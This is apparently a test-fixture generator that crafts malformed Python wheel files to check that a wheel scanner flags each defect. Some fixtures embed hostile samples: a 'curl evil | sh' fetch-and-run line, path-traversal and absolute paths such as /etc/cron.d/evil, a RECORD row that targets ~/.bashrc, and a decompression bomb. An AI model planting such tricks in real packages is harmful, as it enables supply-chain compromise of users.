#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""wheelgen: writes wheels byte by byte (struct.pack, no zipfile) so that every
zip-framing and RECORD defect `hwb check` looks for can be made on purpose.

    wheelgen.py write DIR    write every crafted bad wheel and EXPECTED.json
    wheelgen.py check DIR    exit 1 unless DIR holds exactly what `write` makes

Each case starts from a small valid wheel named after the case and changes one
thing; EXPECTED.json maps each file to the exact codes hwb reports for it (and
the extra command-line arguments, for the limit cases). Output is deterministic:
fixed timestamps, fixed contents, zlib level 9.
Other tests import it: make_zip(), base_entries(), record_for(), Entry.
"""
import base64
import dataclasses
import hashlib
import json
import pathlib
import struct
import sys
import zlib

LFH, CDH, EOCD, EOCD64, LOC64, DD = (0x04034B50, 0x02014B50, 0x06054B50,
                                     0x06064B50, 0x07064B50, 0x08074B50)
DOS_TIME, DOS_DATE = 0, (1980 - 1980) << 9 | 1 << 5 | 1   # 1980-01-01 00:00
U32 = 0xFFFFFFFF
REG = 0o100644 << 16
UNIX = 3 << 8 | 20


def deflate(data, level=9):
    c = zlib.compressobj(level, zlib.DEFLATED, -15, 9)
    return c.compress(data) + c.flush()


@dataclasses.dataclass
class Entry:
    """One member. local/central override header fields of that record only;
    keys: name flags method crc csize usize extra (both), and in central:
    comment offset attr made_by disk."""
    name: object                      # str or raw bytes
    data: bytes = b""
    method: int = 8
    flags: int = 0
    raw: bytes = None                 # compressed bytes, if not deflate(data)
    extra: bytes = b""
    attr: int = REG
    made_by: int = UNIX
    descriptor: bool = False          # flag bit 3 and a data descriptor
    zip64: bool = False               # ZIP64 extra fields even when small
    local: dict = dataclasses.field(default_factory=dict)
    central: dict = dataclasses.field(default_factory=dict)

    def name_bytes(self):
        return self.name if isinstance(self.name, bytes) else self.name.encode()

    def payload(self):
        if self.raw is not None:
            return self.raw
        return deflate(self.data) if self.method == 8 else self.data


def zip64_extra(*values):
    body = b"".join(struct.pack("<Q", v) for v in values)
    return struct.pack("<HH", 1, len(body)) + body


def local_header(e, payload, offset):
    o = e.local
    name = o.get("name", e.name_bytes())
    name = name.encode() if isinstance(name, str) else name
    flags = o.get("flags", e.flags | (8 if e.descriptor else 0))
    crc = o.get("crc", 0 if e.descriptor else zlib.crc32(e.data))
    csize = o.get("csize", 0 if e.descriptor else len(payload))
    usize = o.get("usize", 0 if e.descriptor else len(e.data))
    extra = e.extra
    if (e.zip64 or csize >= U32 or usize >= U32) and "csize" not in o:
        extra = zip64_extra(usize, csize) + extra
        csize = usize = U32
    extra = o.get("extra", extra)
    return struct.pack("<IHHHHHIIIHH", LFH, 45 if e.zip64 else 20, flags,
                       o.get("method", e.method), DOS_TIME, DOS_DATE, crc,
                       csize, usize, len(name), len(extra)) + name + extra


def central_header(e, payload, offset):
    o = e.central
    name = o.get("name", e.name_bytes())
    name = name.encode() if isinstance(name, str) else name
    crc = o.get("crc", zlib.crc32(e.data))
    csize, usize = o.get("csize", len(payload)), o.get("usize", len(e.data))
    offset = o.get("offset", offset)
    big = [v for v in (usize, csize, offset) if e.zip64 or v >= U32]
    extra = e.extra
    if big and "extra" not in o:
        vals = [v for v in (usize, csize, offset) if e.zip64 or v >= U32]
        extra = zip64_extra(*vals) + extra
        usize = U32 if (e.zip64 or usize >= U32) else usize
        csize = U32 if (e.zip64 or csize >= U32) else csize
        offset = U32 if (e.zip64 or offset >= U32) else offset
    extra = o.get("extra", extra)
    comment = o.get("comment", b"")
    return struct.pack("<IHHHHHHIIIHHHHHII", CDH, o.get("made_by", e.made_by),
                       45 if big else 20,
                       o.get("flags", e.flags | (8 if e.descriptor else 0)),
                       o.get("method", e.method), DOS_TIME, DOS_DATE, crc,
                       csize, usize, len(name), len(extra), len(comment),
                       o.get("disk", 0), 0, o.get("attr", e.attr),
                       offset) + name + extra + comment


def descriptor(e, payload):
    return struct.pack("<IIII", DD, zlib.crc32(e.data), len(payload), len(e.data))


def make_zip(entries, prepend=b"", shift_offsets=True, before=None,
             before_cd=b"", cd_after=b"", cd_order=None, comment=b"",
             trailing=b"", eocd=None, zip64_end=False, eocd64=None, loc64=None,
             alias=None):
    """The zip as bytes. before: {index: bytes written before entry index's
    local header}; cd_after: bytes after the central records (inside the
    CD region); eocd / eocd64 / loc64: field overrides of the end records;
    alias: {i: j}: entry i gets no local record, its central record points
    at the start of entry j's data."""
    before = before or {}
    alias = alias or {}
    out = bytearray(prepend)
    base = 0 if shift_offsets else len(prepend)
    offsets = []
    data_at = {}
    for i, e in enumerate(entries):
        out += before.get(i, b"")
        payload = e.payload()
        offsets.append(len(out) - base)
        if i in alias:
            continue
        out += local_header(e, payload, len(out) - base)
        data_at[i] = len(out) - base
        out += payload
        if e.descriptor:
            out += descriptor(e, payload)
    for i, j in alias.items():
        offsets[i] = data_at[j]
    out += before_cd
    cd_start = len(out) - base
    order = cd_order if cd_order is not None else range(len(entries))
    cd = b"".join(central_header(entries[i], entries[i].payload(), offsets[i])
                  for i in order) + cd_after
    out += cd
    count = len(list(order))
    e = dict(disk=0, cd_disk=0, count_disk=count, count=count, cd_size=len(cd),
             cd_offset=cd_start, comment=comment)
    e.update(eocd or {})
    need64 = zip64_end or cd_start >= U32 or count >= 0xFFFF
    if need64:
        rec_off = len(out) - base
        z = dict(record_size=44, count=count, cd_size=len(cd),
                 cd_offset=cd_start, disk=0)
        z.update(eocd64 or {})
        out += struct.pack("<IQHHIIQQQQ", EOCD64, z["record_size"], UNIX, 45,
                           z["disk"], 0, z["count"], z["count"], z["cd_size"],
                           z["cd_offset"])
        loc = dict(offset=rec_off, disks=1)
        loc.update(loc64 or {})
        out += struct.pack("<IIQI", LOC64, 0, loc["offset"], loc["disks"])
    out += struct.pack("<IHHHHIIH", EOCD, e["disk"], e["cd_disk"],
                       min(e["count_disk"], 0xFFFF), min(e["count"], 0xFFFF),
                       min(e["cd_size"], U32), min(e["cd_offset"], U32),
                       len(e["comment"])) + e["comment"]
    return bytes(out + trailing)


def record_hash(data):
    digest = hashlib.sha256(data).digest()
    return "sha256=" + base64.urlsafe_b64encode(digest).rstrip(b"=").decode()


def record_for(entries, dist_info, extra_rows=(), skip=()):
    rows = []
    for e in entries:
        name = e.name if isinstance(e.name, str) else e.name.decode("utf-8", "replace")
        if name in skip or name.endswith("/"):
            continue
        rows.append(f"{name},{record_hash(e.data)},{len(e.data)}")
    rows += list(extra_rows)
    rows.append(f"{dist_info}/RECORD,,")
    return ("\n".join(rows) + "\n").encode()


def base_entries(project, files=None):
    """A valid pure-Python wheel's members, RECORD excluded."""
    pkg = project
    files = files if files is not None else {
        f"{pkg}/__init__.py": b'"""A crafted test wheel."""\n__version__ = "1.0"\n',
        f"{pkg}/core.py": b"def answer():\n    return 42\n" * 4,
    }
    di = f"{project}-1.0.dist-info"
    meta = (f"Metadata-Version: 2.1\nName: {project}\nVersion: 1.0\n"
            f"Summary: a wheel crafted by tests/wheelgen.py\n").encode()
    wheel = (b"Wheel-Version: 1.0\nGenerator: wheelgen\nRoot-Is-Purelib: true\n"
             b"Tag: py3-none-any\n")
    entries = [Entry(n, d) for n, d in files.items()]
    entries += [Entry(f"{di}/METADATA", meta), Entry(f"{di}/WHEEL", wheel)]
    return entries, di


def wheel(project, mutate=None, record=None, files=None, **zipargs):
    """Build a wheel: base entries, RECORD, then mutate(entries) changes
    members after RECORD was written (that is the point of most cases)."""
    entries, di = base_entries(project, files)
    rec = record(entries, di) if record else record_for(entries, di)
    entries.append(Entry(f"{di}/RECORD", rec))
    if mutate:
        mutate(entries, di)
    return make_zip(entries, **zipargs)


def find(entries, suffix):
    return next(e for e in entries if e.name_bytes().endswith(suffix.encode()))


CASES = {}


def case(name, codes, args=()):
    def register(fn):
        CASES[name] = (fn, list(codes), list(args))
        return fn
    return register


# -- container: end records, central directory (1-3, 7-9, 11) -------------

@case("w001_truncated", ["HWB-W001"])
def _(p):
    return wheel(p)[:200]


@case("w001_not_a_zip", ["HWB-W001"])
def _(p):
    return b"This is not a zip archive, only text pretending to be a wheel.\n" * 4


@case("w002_prepended_stub", ["HWB-W002"])
def _(p):
    # Offsets fixed up for the stub (as `zip -A` does): only the stub is wrong.
    return wheel(p, prepend=b"#!/bin/sh\nexec python3 -m pip install $0\n")


@case("w003_gap_between_members", ["HWB-W003"])
def _(p):
    return wheel(p, before={1: b"\0" * 64})


@case("w003_hidden_local_header", ["HWB-W003"])
def _(p):
    hidden = Entry(f"{p}/hidden.py", b"import os\nos.system('id')\n")
    blob = local_header(hidden, hidden.payload(), 0) + hidden.payload()
    return wheel(p, before={2: blob})


@case("w004_trailing_data", ["HWB-W004"])
def _(p):
    return wheel(p, trailing=b"PK trailing bytes after the end record")


@case("w005_duplicate_name", ["HWB-W005", "HWB-W078"])
def _(p):
    def dup(entries, di):
        entries.insert(1, Entry(f"{p}/core.py", find(entries, "core.py").data))
    return wheel(p, mutate=dup)


@case("w009_guarddog_780_cd_size_zero", ["HWB-W009"])
def _(p):
    return wheel(p, eocd={"cd_size": 0})


@case("w009_count_hides_record", ["HWB-W003", "HWB-W009", "HWB-W031"])
def _(p):
    return wheel(p, eocd={"count": 4, "count_disk": 4})


@case("w009_offsets_not_shifted", ["HWB-W009"])
def _(p):
    # `cat stub.sh x.whl`: offsets still count from the old start; Python's
    # zipfile guesses the shift, stricter readers fail.
    return wheel(p, prepend=b"\0" * 100, shift_offsets=False)


@case("w009_multi_disk", ["HWB-W009"])
def _(p):
    return wheel(p, eocd={"disk": 1})


@case("w010_zip64_record_size", ["HWB-W010"])
def _(p):
    return wheel(p, zip64_end=True, eocd64={"record_size": 52})


@case("w010_zip64_locator_offset", ["HWB-W010"])
def _(p):
    return wheel(p, zip64_end=True, loc64={"offset": 0})


@case("w010_zip64_legacy_disagrees", ["HWB-W010"])
def _(p):
    return wheel(p, zip64_end=True, eocd={"count": 3, "count_disk": 3})


@case("w010_sentinel_without_zip64", ["HWB-W010"])
def _(p):
    return wheel(p, eocd={"cd_offset": U32})


@case("w010_zip64_extra_missing", ["HWB-W010"])
def _(p):
    def m(entries, di):
        find(entries, "core.py").central.update(csize=U32, extra=b"")
    return wheel(p, mutate=m)


@case("w010_zip64_extra_too_long", ["HWB-W010"])
def _(p):
    def m(entries, di):
        e = find(entries, "core.py")
        e.central.update(usize=U32, extra=zip64_extra(len(e.data), 7))
    return wheel(p, mutate=m)


@case("w011_extra_overruns", ["HWB-W011"])
def _(p):
    def m(entries, di):
        find(entries, "core.py").extra = struct.pack("<HH", 0x5455, 40) + b"\1" * 5
    return wheel(p, mutate=m)


@case("w011_unicode_path_differs", ["HWB-W011"])
def _(p):
    def m(entries, di):
        e = find(entries, "core.py")
        other = f"{p}/evil.py".encode()
        e.extra = (struct.pack("<HHBI", 0x7075, 5 + len(other), 1,
                               zlib.crc32(e.name_bytes())) + other)
    return wheel(p, mutate=m)


@case("w011_zip64_extra_twice", ["HWB-W011"])
def _(p):
    def m(entries, di):
        e = find(entries, "core.py")
        e.central.update(usize=U32, extra=zip64_extra(len(e.data)) * 2)
    return wheel(p, mutate=m)


@case("w013_entry_comment", ["HWB-W013"])
def _(p):
    def m(entries, di):
        find(entries, "core.py").central["comment"] = b"payload hidden here"
    return wheel(p, mutate=m)


@case("w013_zip_in_comment", ["HWB-W013"])
def _(p):
    inner = make_zip([Entry("evil.py", b"print('other archive')\n")])
    return wheel(p, comment=inner)


# -- local headers against the central directory (4-6, 12, 13) -----------

@case("w006_cve_2025_54368_local_name", ["HWB-W006"])
def _(p):
    def m(entries, di):
        find(entries, "core.py").local["name"] = f"{p}/c0re.py"
    return wheel(p, mutate=m)


@case("w006_no_local_header", ["HWB-W006"])
def _(p):
    def m(entries, di):
        find(entries, "core.py").central["offset"] = 5
    return wheel(p, mutate=m)


@case("w007_local_crc", ["HWB-W007"])
def _(p):
    def m(entries, di):
        find(entries, "core.py").local["crc"] = 0x12345678
    return wheel(p, mutate=m)


@case("w007_local_method", ["HWB-W007"])
def _(p):
    def m(entries, di):
        find(entries, "core.py").local["method"] = 0
    return wheel(p, mutate=m)


@case("w007_local_sizes", ["HWB-W007"])
def _(p):
    def m(entries, di):
        e = find(entries, "core.py")
        e.local["usize"] = len(e.data) + 1
    return wheel(p, mutate=m)


@case("w007_local_utf8_flag", ["HWB-W007"])
def _(p):
    def m(entries, di):
        find(entries, "core.py").local["flags"] = 0x800
    return wheel(p, mutate=m)


@case("w008_data_descriptor", ["HWB-W008"])
def _(p):
    def m(entries, di):
        find(entries, "core.py").descriptor = True
    return wheel(p, mutate=m)


@case("w015_bzip2_method", ["HWB-W015"])
def _(p):
    def m(entries, di):
        find(entries, "core.py").method = 12
    return wheel(p, mutate=m)


@case("w016_encrypted", ["HWB-W016"])
def _(p):
    def m(entries, di):
        find(entries, "core.py").flags = 1
    return wheel(p, mutate=m)


@case("w017_overlapping_entries", ["HWB-W017"])
def _(p):
    # core.py is stored and its bytes are a whole second entry, inner.py,
    # which has no local record of its own: two names share the same bytes.
    inner = Entry(f"{p}/inner.py", b"x = 1\n", method=0)

    def m(entries, di):
        e = find(entries, "core.py")
        e.method, e.data = 0, local_header(inner, inner.data, 0) + inner.data
        entries.insert(2, inner)
    entries, di = base_entries(p)
    m(entries, di)
    entries.append(Entry(f"{di}/RECORD", record_for(entries, di)))
    return make_zip(entries, alias={2: 1})


@case("w017_data_runs_into_cd", ["HWB-W017"])
def _(p):
    def m(entries, di):
        e = entries[-1]
        e.central["csize"] = len(e.payload()) + 30
        e.local["csize"] = len(e.payload()) + 30
    return wheel(p, mutate=m)


# -- names and paths (10, 15, 16) -------------------------------------------

def with_name(p, new_name, flags=0):
    """core.py renamed; RECORD leaves it out: a name that breaks a rule is
    reported once, by that rule."""
    entries, di = base_entries(p)
    core = find(entries, "core.py")
    rec = record_for(entries, di, skip={f"{p}/core.py"})
    core.name, core.flags = new_name, flags
    entries.append(Entry(f"{di}/RECORD", rec))
    return make_zip(entries)


@case("w012_control_character", ["HWB-W012", "HWB-W080"])
def _(p):
    return with_name(p, f"{p}/core\x1b[2J.py")


@case("w012_not_utf8", ["HWB-W012"])
def _(p):
    return with_name(p, f"{p}/caf\xe9.py".encode("latin-1"), flags=0x800)


@case("w012_utf8_flag_missing", ["HWB-W012"])
def _(p):
    return with_name(p, f"{p}/café.py".encode(), flags=0)


@case("w012_empty_name", ["HWB-W012"])
def _(p):
    return with_name(p, b"")


@case("w014_case_collision", ["HWB-W014"])
def _(p):
    return wheel(p, files={
        f"{p}/__init__.py": b"", f"{p}/core.py": b"x = 1\n", f"{p}/Core.py": b"x = 2\n"})


def utf8_names(entries, di):
    """Non-ASCII names carry the UTF-8 flag (bit 11), as they must."""
    for e in entries:
        if not e.name_bytes().isascii():
            e.flags |= 0x800


@case("w014_nfc_nfd_collision", ["HWB-W014"])
def _(p):
    # "é.py" once precomposed (NFC) and once decomposed (NFD): one file on
    # macOS and on normalisation-insensitive file systems.
    return wheel(p, utf8_names, files={f"{p}/__init__.py": b"", f"{p}/\u00e9.py": b"x = 1\n",
                                       f"{p}/e\u0301.py": b"x = 2\n"})


@case("w014_full_case_fold", ["HWB-W014"])
def _(p):
    # "STRASSE" and "straße" are one name under full Unicode case folding.
    return wheel(p, utf8_names, files={f"{p}/__init__.py": b"", f"{p}/stra\u00dfe.py": b"x = 1\n",
                                       f"{p}/STRASSE.py": b"x = 2\n"})


@case("w100_setuid_mode", ["HWB-W100"])
def _(p):
    def m(entries, di):
        find(entries, "core.py").attr = 0o104644 << 16
    return wheel(p, m)


@case("w101_world_writable", ["HWB-W101"])
def _(p):
    def m(entries, di):
        find(entries, "core.py").attr = 0o100666 << 16
    return wheel(p, m)


@case("w102_extra_field_65000", ["HWB-W102"])
def _(p):
    # 65,000 bytes in an unknown extra record (id 0xCAFE), in the local and
    # the central header: data outside what RECORD covers.
    blob = struct.pack("<HH", 0xCAFE, 64996) + b"\x00" * 64996
    def m(entries, di):
        find(entries, "core.py").extra = blob
    return wheel(p, m)


@case("w102_extra_field_warning", ["HWB-W102"])
def _(p):
    blob = struct.pack("<HH", 0xCAFE, 2044) + b"\x00" * 2044
    def m(entries, di):
        find(entries, "core.py").extra = blob
    return wheel(p, m)


@case("w021_absolute_path", ["HWB-W021", "HWB-W085", "HWB-W086"])
def _(p):
    return with_name(p, "/etc/cron.d/evil")


@case("w021_drive_letter", ["HWB-W021", "HWB-W080", "HWB-W085"])
def _(p):
    return with_name(p, "C:/Windows/evil.py")


@case("w022_traversal", ["HWB-W022", "HWB-W080"])
def _(p):
    return with_name(p, f"{p}/../../evil.py")


@case("w023_backslash", ["HWB-W023", "HWB-W080", "HWB-W085"])
def _(p):
    return with_name(p, f"{p}\\core.py")


@case("w023_dot_component", ["HWB-W023", "HWB-W080", "HWB-W085"])
def _(p):
    return with_name(p, f"./{p}/core.py")


@case("w023_empty_component", ["HWB-W023", "HWB-W080"])
def _(p):
    return with_name(p, f"{p}//core.py")


@case("w024_symlink", ["HWB-W024"])
def _(p):
    def m(entries, di):
        find(entries, "core.py").attr = 0o120644 << 16
    return wheel(p, mutate=m)


@case("w025_fifo", ["HWB-W025"])
def _(p):
    def m(entries, di):
        find(entries, "core.py").attr = 0o010644 << 16
    return wheel(p, mutate=m)


@case("w025_char_device", ["HWB-W025"])
def _(p):
    def m(entries, di):
        find(entries, "core.py").attr = 0o020644 << 16
    return wheel(p, mutate=m)


# -- data (14) ----------------------------------------------------------------

@case("w018_member_over_limit", ["HWB-W018"], args=["--max-member-size", "100"])
def _(p):
    return wheel(p)


@case("w019_total_over_limit", ["HWB-W019"], args=["--max-total-size", "300"])
def _(p):
    return wheel(p)


@case("w020_ratio_bomb", ["HWB-W020"])
def _(p):
    big = Entry(f"{p}/zeros.bin", b"", raw=deflate(b"\0" * (100 << 20)))

    def m(entries, di):
        big.central.update(usize=100 << 20, crc=zlib.crc32(b"\0" * (100 << 20)))
        big.local.update(usize=100 << 20, crc=big.central["crc"])
        entries.insert(2, big)
    return wheel(p, mutate=m)


@case("w026_crc_mismatch", ["HWB-W026"])
def _(p):
    def m(entries, di):
        e = find(entries, "core.py")
        e.local["crc"] = e.central["crc"] = zlib.crc32(e.data) ^ 1
    return wheel(p, mutate=m)


@case("w027_inflates_longer", ["HWB-W027"])
def _(p):
    def m(entries, di):
        e = find(entries, "core.py")
        e.local["usize"] = e.central["usize"] = len(e.data) - 10
    return wheel(p, mutate=m)


@case("w027_inflates_shorter", ["HWB-W027"])
def _(p):
    def m(entries, di):
        e = find(entries, "core.py")
        e.local["usize"] = e.central["usize"] = len(e.data) + 10
    return wheel(p, mutate=m)


@case("w028_corrupt_deflate", ["HWB-W028"])
def _(p):
    def m(entries, di):
        e = find(entries, "core.py")
        e.raw = b"\xff" * len(e.payload())
    return wheel(p, mutate=m)


@case("w028_bytes_after_stream", ["HWB-W028"])
def _(p):
    def m(entries, di):
        e = find(entries, "core.py")
        e.raw = deflate(e.data) + b"hidden"
    return wheel(p, mutate=m)


# -- RECORD (17-21) -----------------------------------------------------------

def record_text(p, fix):
    def rec(entries, di):
        return fix(record_for(entries, di).decode(), di).encode()
    return wheel(p, record=rec)


@case("w031_record_missing", ["HWB-W031"])
def _(p):
    def m(entries, di):
        entries.pop()
    return wheel(p, mutate=m)


@case("w032_record_four_fields", ["HWB-W032"])
def _(p):
    return record_text(p, lambda t, di: t.replace(",\n", ",,extra\n", 1))


@case("w032_record_bad_quote", ["HWB-W032"])
def _(p):
    return record_text(p, lambda t, di: t.replace(f"{p}/core.py", f'{p}/co"re.py'))


@case("w032_record_not_utf8", ["HWB-W032"])
def _(p):
    def rec(entries, di):
        return record_for(entries, di) + b"\xff\xfe,,\n"
    return wheel(p, record=rec)


@case("w033_member_not_in_record", ["HWB-W033"])
def _(p):
    def m(entries, di):
        entries.insert(2, Entry(f"{p}/unlisted.py", b"import os\n"))
    return wheel(p, mutate=m)


@case("w034_record_lists_missing_file", ["HWB-W034"])
def _(p):
    def m(entries, di):
        entries.pop(1)
    return wheel(p, mutate=m)


@case("w035_duplicate_row", ["HWB-W035"])
def _(p):
    def rec(entries, di):
        e = find(entries, "core.py")
        return record_for(entries, di, extra_rows=[
            f"{p}/core.py,{record_hash(e.data)},{len(e.data)}"])
    return wheel(p, record=rec)


@case("w036_record_row_traversal", ["HWB-W036"])
def _(p):
    # GHSA-pjjw-68hj-v9mw: uninstall deletes what RECORD lists.
    return record_text(p, lambda t, di: t + f"../../../home/user/.bashrc,{record_hash(b'x')},1\n")


@case("w036_record_row_absolute", ["HWB-W036"])
def _(p):
    return record_text(p, lambda t, di: t + f"/usr/bin/python3,{record_hash(b'x')},1\n")


@case("w037_md5", ["HWB-W037"])
def _(p):
    def rec(entries, di):
        t = record_for(entries, di).decode()
        e = find(entries, "core.py")
        md5 = base64.urlsafe_b64encode(hashlib.md5(e.data).digest()).rstrip(b"=").decode()
        return t.replace(record_hash(e.data), "md5=" + md5).encode()
    return wheel(p, record=rec)


@case("w037_hex_digest", ["HWB-W037"])
def _(p):
    def rec(entries, di):
        e = find(entries, "core.py")
        return record_for(entries, di).decode().replace(
            record_hash(e.data), "sha256=" + hashlib.sha256(e.data).hexdigest()).encode()
    return wheel(p, record=rec)


@case("w037_padded_base64", ["HWB-W037"])
def _(p):
    def rec(entries, di):
        e = find(entries, "core.py")
        return record_for(entries, di).decode().replace(
            record_hash(e.data), record_hash(e.data) + "=").encode()
    return wheel(p, record=rec)


@case("w037_bad_size", ["HWB-W037"])
def _(p):
    def rec(entries, di):
        e = find(entries, "core.py")
        return record_for(entries, di).decode().replace(
            f"{record_hash(e.data)},{len(e.data)}", f"{record_hash(e.data)},0x10").encode()
    return wheel(p, record=rec)


@case("w038_record_row_hashed", ["HWB-W038"])
def _(p):
    return record_text(p, lambda t, di: t.replace(f"{di}/RECORD,,",
                                                  f"{di}/RECORD,{record_hash(b'')},0"))


@case("w038_signature_listed", ["HWB-W038"])
def _(p):
    def m(entries, di):
        entries.insert(-1, Entry(f"{di}/RECORD.jws", b"{}"))

    def rec(entries, di):
        return record_for(entries, di, extra_rows=[f"{di}/RECORD.jws,{record_hash(b'{}')},2"])
    return wheel(p, mutate=m, record=rec)


@case("w039_hash_mismatch", ["HWB-W039"])
def _(p):
    def m(entries, di):
        find(entries, "core.py").data += b"import os; os.system('curl evil | sh')\n"
    return wheel(p, mutate=m)


@case("w039_size_mismatch", ["HWB-W039"])
def _(p):
    def rec(entries, di):
        e = find(entries, "core.py")
        return record_for(entries, di).decode().replace(
            f"{record_hash(e.data)},{len(e.data)}",
            f"{record_hash(e.data)},{len(e.data) + 1}").encode()
    return wheel(p, record=rec)


def file_name(case_name):
    return f"{case_name}-1.0-py3-none-any.whl"


def build_all():
    """{file name: bytes} and the manifest."""
    files, manifest = {}, {}
    for name, (fn, codes, args) in sorted(CASES.items()):
        fname = file_name(name)
        files[fname] = fn(name)
        manifest[fname] = {"codes": sorted(codes), "args": args} if args else sorted(codes)
    files["EXPECTED.json"] = (json.dumps(manifest, indent=2, sort_keys=True) + "\n").encode()
    return files


def main(argv):
    if len(argv) != 3 or argv[1] not in ("write", "check"):
        print(__doc__, file=sys.stderr)
        return 2
    out = pathlib.Path(argv[2])
    files = build_all()
    if argv[1] == "write":
        out.mkdir(parents=True, exist_ok=True)
        for old in out.glob("*.whl"):
            if old.name not in files:
                old.unlink()
        for name, data in files.items():
            (out / name).write_bytes(data)
        return 0
    have = {p.name for p in out.iterdir() if p.suffix in (".whl", ".json")}
    bad = sorted(have ^ set(files)) + sorted(
        n for n in files if n in have and (out / n).read_bytes() != files[n])
    for n in bad:
        print(f"wheelgen: {out / n} differs from what the generator writes")
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
